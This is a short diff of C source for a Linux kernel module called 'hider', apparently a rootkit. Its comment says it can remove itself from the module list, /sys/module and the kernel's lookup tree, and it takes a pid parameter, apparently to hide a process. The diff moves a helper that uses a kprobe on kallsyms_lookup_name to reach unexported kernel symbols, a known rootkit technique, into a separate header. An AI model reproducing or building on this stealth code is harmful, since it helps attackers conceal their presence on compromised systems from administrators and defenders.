@@ -7,28 +7,17 @@
  * hide=1: the module leaves the list of modules and /sys/module; 2: the tree by which the kernel finds it, too.
  */
 #include <linux/idr.h>
-#include <linux/kprobes.h>
 #include <linux/module.h>
 #include <linux/pid_namespace.h>
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
 
+#include "found.h"
+
 static int pid, level, hide;
 module_param(pid, int, 0);
 module_param(level, int, 0);
 module_param(hide, int, 0);
-
-static void *found(const char *name)
-{
-	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
-	unsigned long (*lookup)(const char *name);
-
-	if (register_kprobe(&probe) < 0)
-		return NULL;
-	lookup = (void *)probe.addr;
-	unregister_kprobe(&probe);
-	return (void *)lookup(name);
-}
 
 static int __init hider_init(void)
 {
